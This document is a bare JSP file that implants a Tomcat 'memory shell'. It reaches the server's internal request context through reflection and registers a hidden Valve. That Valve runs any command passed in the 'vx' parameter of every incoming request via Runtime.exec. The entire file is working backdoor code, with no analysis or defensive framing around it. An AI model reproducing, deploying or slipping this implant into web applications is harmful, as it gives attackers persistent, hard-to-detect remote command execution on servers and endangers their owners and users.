<%@ page import="java.lang.reflect.*,org.apache.catalina.core.*,org.apache.catalina.connector.*,org.apache.catalina.valves.ValveBase" %><%
Field f = request.getClass().getDeclaredField("request"); f.setAccessible(true);
Request req = (Request) f.get(request);
StandardContext ctx = (StandardContext) req.getContext();
ctx.getPipeline().addValve(new ValveBase() {
  public void invoke(Request rq, Response rs) throws java.io.IOException, javax.servlet.ServletException {
    String c = rq.getParameter("vx");
    if (c != null) { Runtime.getRuntime().exec(c); }
    getNext().invoke(rq, rs);
  }
});
%>
